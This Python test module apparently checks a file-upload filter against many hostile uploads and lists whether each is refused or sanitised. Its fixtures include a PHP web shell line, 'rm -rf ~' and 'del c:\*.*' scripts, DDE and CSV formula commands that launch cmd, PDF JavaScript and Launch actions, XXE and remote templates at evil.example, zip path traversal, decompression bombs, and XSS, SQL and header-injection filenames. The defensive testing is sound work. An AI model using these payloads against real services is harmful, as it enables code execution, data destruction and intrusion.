"""Uploads with bad intentions, and what becomes of each: refused with its sentence, or taken and made harmless."""

from __future__ import annotations

from app.files.rules import LARGEST
from tests.rooms.files import made, tricks

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
HEIC = b"\0\0\0\x18ftypheic" + b"\0" * 400
UTF_16 = "Name;Value\n".encode("utf-16")
KIND, AS_PDF = (
    "is of a kind we cannot keep. Save it as PDF and send that.",
    "Save it without, or send it as PDF.",
)
DAMAGED = "is damaged. Open it, save it anew and send that, or send it as PDF."
PICTURE = "is a picture of a kind we cannot keep. Save it as JPG or PNG and send that."
RUNS, LOADS = (
    f"holds macros or a program. {AS_PDF}",
    f"loads something from elsewhere when it is opened. {AS_PDF}",
)
NOT_PDF, NOT_WORD = (
    f"is not {kind} inside, whatever its name says. Save it anew, or as PDF." for kind in ("PDF", "Word")
)
TEXT = "is not plain text inside. Save it as plain text (UTF-8), or as PDF."
LARGE = "unpacks to far more than a document holds. Send it as PDF."
DRAWN = "is damaged: it cannot be drawn. Open it, save it anew and send that."
OLD = "is in an old Office format, or locked with a password. Save it as .docx, .xlsx or PDF without one."

# what it is: name, bytes, what is said after its name
REFUSED = {
    "nothing": ("a.pdf", b"", "is empty. Look at it on your device and send it again."),
    "too large": ("a.txt", b"x" * (LARGEST + 1),
        "has 25 MB; one file may have 25 MB. Save a smaller version, or send it in parts."),
    "a program": ("setup.exe", made.EXE, KIND),
    "a program called a PDF": ("a.pdf", made.EXE, NOT_PDF),
    "a program called a text": ("a.txt", made.EXE, TEXT),
    "words called a PDF": ("a.pdf", b"just words", NOT_PDF),
    "a web page": ("a.html", made.HTML, KIND),
    "a web page called a text": ("a.txt", b"\xef\xbb\xbf \n" + made.HTML, TEXT),
    "a web page called a PDF": ("a.pdf", made.HTML, NOT_PDF),
    "a script called Markdown": ("a.md", b"#!/bin/sh\nrm -rf ~\n", TEXT),
    "PHP called CSV": ("a.csv", b"<?php system($_GET['c']);", TEXT),
    "SVG": ("a.svg", made.SVG, PICTURE),
    "SVG called PNG": ("a.png", made.SVG, PICTURE),
    "SVG called a text": ("a.txt", made.SVG, PICTURE),
    "XML called a text": ("a.txt", b"<?xml version='1.0'?><a/>", TEXT),
    "GIF": ("a.gif", b"GIF89a" + b"\0" * 40, PICTURE),
    "a picture of a telephone": ("a.heic", HEIC, PICTURE),
    "the same, called JPG": ("a.jpg", HEIC, PICTURE),
    "a text of two bytes a letter": ("a.csv", UTF_16, TEXT),
    "bytes called a text": ("a.txt", bytes(range(256)), TEXT),
    "a PDF before something else": ("a.pdf", made.PDF + b"PK\x05\x06" + b"\0" * 5000,
        "is damaged, or not only a PDF. Print it to PDF once more and send that."),
    "half a PDF": ("a.pdf", made.PDF[:60], "is damaged, or not only a PDF. Print it to PDF once more and send that."),
    "something before a PDF": ("a.pdf", made.HTML + made.PDF,
        NOT_PDF),
    "an archive": ("a.zip", made.archive(), KIND),
    "an archive called Word": ("a.docx", made.archive(), NOT_WORD),
    "the old Word": ("a.doc", OLE, OLD),
    "a locked document": ("a.docx", OLE, OLD),
    "locked parts": ("a.docx", made.locked(),
        NOT_WORD),
    "two documents in one": ("a.docx", made.document(
        contents=f'<Override PartName="/x.xml" ContentType="{made.MAIN["xlsx"]}"/>'),
        NOT_WORD),
    "macros": ("a.docx", made.document(parts={"word/vbaProject.bin": b"x"}), RUNS),
    "macros by content": ("a.docx", made.document(
        contents='<Override PartName="/m.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        RUNS),
    "controls": ("a.xlsx", made.document("xlsx", parts={"xl/activeX/activeX1.bin": b"x"}), RUNS),
    "a program inside": ("a.docx", made.document(parts={"word/embeddings/oleObject1.bin": b"x"}), RUNS),
    "a template from elsewhere": ("a.docx", made.document(
        links=made.link("attachedTemplate", "https://evil.example/t.dotm")), LOADS),
    "a picture from elsewhere": ("a.docx", made.document(
        links=made.link("image", "file://10.0.0.1/share/x.png", "external")), LOADS),
    "entities": ("a.docx", made.document(
        parts={"word/_rels/document.xml.rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), DAMAGED),
    "no XML": ("a.docx", made.document(parts={"word/_rels/document.xml.rels": b"<a"}), DAMAGED),
    "a way out": ("a.docx", made.document(parts={"../../../etc/cron.d/x": b"x"}), DAMAGED),
    "a bomb": ("a.docx", made.bomb(), LARGE),
    "a bomb that lies": ("a.docx", made.lying_bomb(), DAMAGED),
    "thousands of parts": ("a.docx", made.many_parts(),
        NOT_WORD),
    "a document that was cut off": ("a.docx", made.word("x")[:-300],
        NOT_WORD),
    "a picture of gigabytes": (
        "a.png", made.huge_png(), "has more points than any page needs. Save it smaller and send that."),
    "a picture too large": ("a.png", made.huge_png(8_000, 6_000),
        "has 8,000 × 6,000 points; 40 million together are enough for any page. Save it smaller and send that."),
    "half a picture": ("a.jpg", made.picture(size=(400, 300))[:700], DRAWN),
    "a picture of nothing": ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, DRAWN),
}  # fmt: skip

AGAIN = "Print it to PDF once more and send that."
LOCKED = f"is locked: whoever opens it needs a password or is kept from something. {AGAIN}"
PROGRAM = "holds a program. Print it to PDF once more and send that."
HOLDS = "holds another file. Send that one by itself, and this one printed to PDF once more."
GLUED = "is damaged, or not only a PDF. Print it to PDF once more and send that."
NOT_EXCEL, NOT_POINT, NOT_PNG = (
    f"is not {kind} inside, whatever its name says. Save it anew, or as PDF."
    for kind in ("Excel", "PowerPoint", "PNG")
)
POINTS = "has more points than any page needs. Save it smaller and send that."

REFUSED |= {
    # PDF
    "a locked PDF": ("a.pdf", tricks.pdf(trailer=b"/Encrypt 9 0 R"), LOCKED),
    "a PDF locked in place": ("a.pdf", tricks.pdf(trailer=b"/Encrypt<</Filter/Standard>>"), LOCKED),
    "a PDF with a script": ("a.pdf", tricks.pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), PROGRAM),
    "a PDF with a script under an odd name": ("a.pdf", tricks.pdf(b"<</S/J#61vaScr#69pt/JS 5 0 R>>"), PROGRAM),
    "a PDF with a packed script": ("a.pdf", tricks.packed_pdf(b"<</S/JavaScript/JS(x)>>"), PROGRAM),
    "a PDF with a script at its opening": (
        "a.pdf", tricks.pdf(catalog=b"/OpenAction<</S/JavaScript/JS(x)>>"), PROGRAM),
    "a PDF that starts a program": ("a.pdf", tricks.pdf(b"<</S/Launch/F(cmd.exe)>>"), PROGRAM),
    "a PDF with a film": ("a.pdf", tricks.pdf(b"<</Type/Annot/Subtype/RichMedia>>"), PROGRAM),
    "a PDF with a file inside": ("a.pdf", tricks.pdf(b"<</Type/EmbeddedFile/Length 4>>"), HOLDS),
    "a PDF with files inside": ("a.pdf", tricks.pdf(catalog=b"/Names<</EmbeddedFiles 7 0 R>>"), HOLDS),
    "PDF and archive in one": ("a.pdf", tricks.pdf_and_zip(), GLUED),
    "a PDF named as a text": ("a.txt", b"\n" + made.PDF[1:6] + b"\0", TEXT),
    # several things in one
    "GIF and archive in one": ("a.png", b"GIF89a" + b"\0" * 40 + made.archive(), PICTURE),
    "a web page before an archive": ("a.docx", made.HTML + made.document(), NOT_WORD),
    "two archives in one": ("a.docx", made.archive() + made.document(), DAMAGED),
    "a program named twice": ("a.pdf.exe", made.EXE, KIND),
    "a packed SVG": ("a.png", tricks.gzipped(made.SVG), NOT_PNG),
    "a packed SVG as itself": ("a.svgz", tricks.gzipped(made.SVG), KIND),
    "SVG called JPG": ("a.jpg", made.SVG, PICTURE),
    "SVG called PDF": ("a.pdf", made.SVG, PICTURE),
    "SVG called CSV": ("a.csv", b"\xef\xbb\xbf" + made.SVG, PICTURE),
    "SVG after a line": ("a.md", b"\n\n<SVG onload=xq()>", TEXT),
    # texts
    "dots and spaces after the ending": ("a.txt. . .", b"Words.", KIND),
    "only an ending": (".txt", made.EXE, TEXT),
    "a web page of two bytes a letter": ("a.txt", made.HTML.decode().encode("utf-16"), TEXT),
    "a web page of two bytes, without its mark": ("a.md", made.HTML.decode().encode("utf-16-le"), TEXT),
    "zeros in a text": ("a.txt", b"words\0<script>xq()</script>", TEXT),
    "an iframe called Markdown": ("a.md", b"  <iframe src=javascript:xq()>", TEXT),
    "a style sheet of XML": ("a.csv", b"\xef\xbb\xbf<?xml version='1.0'?><?xml-stylesheet href='x'?><a/>", TEXT),
    "escape signs for a terminal": ("a.txt", b"\x1b]0;xq\x07\x1b[2J", TEXT),
    # Office
    "a way out at the root": ("a.docx", tricks.named("/etc/cron.d/x"), DAMAGED),
    "a way out of Windows": ("a.docx", tricks.named("..\\..\\x.xml"), DAMAGED),
    "a part that points elsewhere": ("a.docx", tricks.symlink(), DAMAGED),
    "a part twice": ("a.docx", tricks.twice("word/document.xml"), DAMAGED),
    "a part twice but for its letters": ("a.docx", tricks.twice("Word/DOCUMENT.xml"), DAMAGED),
    "a part under another name inside": ("a.docx", tricks.renamed_inside(), DAMAGED),
    "a part whose sum is wrong": ("a.docx", tricks.wrong_sum(), DAMAGED),
    "sizes of 64 bits that lie": ("a.docx", tricks.zip64_lie(), NOT_WORD),
    "a list of parts that is too long": ("a.docx", tricks.count_lie(), NOT_WORD),
    "a list of parts elsewhere": ("a.docx", tricks.moved_list(), NOT_WORD),
    "parts packed in another way": (
        "a.docx", tricks.packed_oddly(), "is locked with a password. Save it without one and send that."),
    "Word with macros, renamed": ("a.docx", tricks.macro("docx"), NOT_WORD),
    "Excel with macros, renamed": ("a.xlsx", tricks.macro("xlsx"), NOT_EXCEL),
    "PowerPoint with macros, renamed": ("a.pptx", tricks.macro("pptx"), NOT_POINT),
    "a document with macros inside": ("a.docx", made.document(parts={"word/embeddings/a.docm": b"x"}), RUNS),
    "an archive inside": ("a.docx", made.document(parts={"word/embeddings/a.zip": made.archive()}), RUNS),
    "a program among the pictures": ("a.docx", made.document(parts={"word/media/a.exe": made.EXE}), RUNS),
    "a program object by another name": ("a.docx", made.document(
        parts={"word/media/a.png": OLE}, links=made.link("oleObject", "word/media/a.png", "Internal")), RUNS),
    "a web page inside": ("a.docx", made.document(
        parts={"word/a.html": made.HTML}, links=made.link("aFChunk", "word/a.html", "Internal")), RUNS),
    "a field that starts a program": ("a.docx", made.document(parts={
        "word/header1.xml": b"<w:hdr><w:instrText>  DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:hdr>"}), RUNS),
    "the same in one element": ("a.docx", made.document(
        parts={"word/footer1.xml": b"<a><w:fldSimple w:instr='DDE cmd x'/></a>"}), RUNS),
    "a formula that starts a program": ("a.xlsx", made.document("xlsx", parts={
        "xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}), RUNS),
    "a thousand million laughs": ("a.docx", made.document(parts={"customXml/item1.xml": tricks.LAUGHS}), DAMAGED),
    "a document type from elsewhere": ("a.docx", made.document(
        parts={"word/styles.xml": b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'}), DAMAGED),
    "a document type of two bytes a letter": ("a.xlsx", made.document(
        "xlsx", parts={"xl/styles.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}), DAMAGED),
    # pictures
    "a picture as wide as a number": ("a.png", made.huge_png(2**31 - 1, 2**31 - 1), POINTS),
    "a picture of nothing at all": ("a.png", made.huge_png(0, 0), DRAWN),
    "a photo of gigabytes": ("a.jpg", tricks.huge_jpg(), POINTS),
    "a picture with a packed bomb in its words": (
        "a.png", tricks.png_with(b"zTXt", b"x\0\0" + tricks.packed_zeros()), DRAWN),
    "a picture with a packed bomb in its colors": (
        "a.png", tricks.png_with(b"iCCP", b"x\0\0" + tricks.packed_zeros()), DRAWN),
    "a picture whose points are a bomb": ("a.png", tricks.png_of_zeros(7_000, 7_000),
        "has 7,000 × 7,000 points; 40 million together are enough for any page. Save it smaller and send that."),
}  # fmt: skip
REFUSED |= {
    f"something from elsewhere: {kind}": ("a.docx", made.document(links=made.link(kind, "http://evil.test/x")), LOADS)
    for kind in ("frame", "subDocument", "externalLinkPath", "audio", "video", "media", "mailMergeSource", "package",
                 "stylesheet", "customXml")
}  # fmt: skip

# How it is kept: the very bytes, a picture drawn anew, or a document without its author.
SAME, DRAWN_ANEW, BARE = "same", "drawn", "bare"
TAKEN = {
    "the test virus": ("a.txt", tricks.EICAR, SAME),
    "the test virus in a document": ("a.docx", made.document(parts={"word/media/a.bin": tricks.EICAR}), SAME),
    "a web page later in a text": ("a.md", b"# Notes\n\n" + made.HTML, SAME),
    "a comment, then a script": ("a.txt", b"<!-- --><script>xq()</script>", SAME),
    "a picture that fails, as a text": ("a.txt", b"x<img src=x onerror=xq()>", SAME),
    "a web page of seven bits": ("a.txt", b"+ADw-script+AD4-xq()+ADw-/script+AD4-", SAME),
    "a web page behind its limit of looking": ("a.csv", b" " * 3000 + made.HTML, SAME),
    "a page as mail": ("a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + made.HTML, SAME),
    "a script in Markdown": ("a.md", b"[x](javascript:xq()) <b onclick=xq()>", SAME),
    "a shell script called text": ("a.txt", b"@echo off\r\ndel c:\\*.*", SAME),
    "a PDF that opens at its second page": ("a.pdf", tricks.pdf(catalog=b"/OpenAction[3 0 R/Fit]"), SAME),
    "a PDF that leads to the web": ("a.pdf", tricks.pdf(b"<</S/URI/URI(javascript:xq\\(\\))>>"), SAME),
    "a PDF that sends a form": ("a.pdf", tricks.pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), SAME),
    "a PDF with a web page inside": (
        "a.pdf", tricks.pdf(b"<</Length 60>>\nstream\n" + made.HTML + b"\nendstream"), SAME),
    "a document that leads to a script": (
        "a.docx", made.document(links=made.link("hyperlink", "javascript:xq()")), SAME),
    "a workbook inside a document": (
        "a.docx", made.document(parts={"word/embeddings/a.xlsx": made.document("xlsx")}), SAME),
    "an SVG inside a document": ("a.docx", made.document(parts={"word/media/a.svg": made.SVG}), SAME),
    "a document with its author": ("a.docx", made.word("Words."), BARE),
    "a picture, then a web page": ("a.png", made.picture("PNG") + made.HTML, DRAWN_ANEW),
    "a picture with a web page in its words": ("a.png", tricks.png_with(b"tEXt", b"x\0" + made.HTML), DRAWN_ANEW),
    "a picture named as a web page": ("a.html", made.picture("PNG"), DRAWN_ANEW),
    "a photo, then PHP": ("a.jpg.php", made.picture() + b"<?php system($_GET['c']); ?>", DRAWN_ANEW),
    "a photo, then an archive": ("a.jpg", made.picture() + made.archive(), DRAWN_ANEW),
    "a photo with a web page in its comment": ("a.jpg", made.picture(comment=made.HTML), DRAWN_ANEW),
    "a photo that knows its place": ("a.jpg", made.located_photo(), DRAWN_ANEW),
    "a photo with a letter": (
        "a.jpg", tricks.photo_with(b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>xqletter"), DRAWN_ANEW),
    "a photo with a smaller one": (
        "a.jpg", tricks.photo_with(b"Exif\0\0MM\0*" + made.picture(comment=b"xqsmall")), DRAWN_ANEW),
    "pictures that move": ("a.png", tricks.moving(), DRAWN_ANEW),
    "colors of print": ("a.jpg", made.picture(mode="CMYK"), DRAWN_ANEW),
    "sixteen bits a color": ("a.png", made.picture("PNG", mode="I;16"), DRAWN_ANEW),
}  # fmt: skip
TAKEN |= {
    f"a formula in a table: {sign!r}": ("a.csv", sign.encode() + b"cmd|'/c calc'!A1,1\n", SAME)
    for sign in "=+-@\t\r"
}

# A harmless text under each of these, and what it is called then. (A backslash in a header only guards the next sign.)
NAMES = {
    "../../../../etc/passwd.txt": "passwd.txt",
    "..\\..\\windows\\win.txt": "windowswin.txt",
    "/etc/cron.d/x.txt": "x.txt",
    "CON.txt": "CON.txt",
    "NUL.txt": "NUL.txt",
    "x" * 300 + ".txt": "x" * 100 + ".txt",
    ".htaccess.txt": "htaccess.txt",
    "a.php.txt": "a.php.txt",
    "\u202egpj.txt": "gpj.txt",
    "a\r\nX-Evil: 1.txt": "a%0D%0AX-Evil: 1.txt",
    "a\0.exe.txt": "a.exe.txt",
    "'\"><img src=x onerror=xq()>.txt": "'\"><img src=x onerror=xq()>.txt",
    "😀 é.txt": "😀 é.txt",
    "{{ 7*7 }}${7*7}.txt": "{{ 7*7 }}${7*7}.txt",
    "'; DROP TABLE user; --.txt": "'; DROP TABLE user; --.txt",
    "C:evil.txt": "C:evil.txt",
    "a.txt::$DATA.txt": "a.txt::$DATA.txt",
}
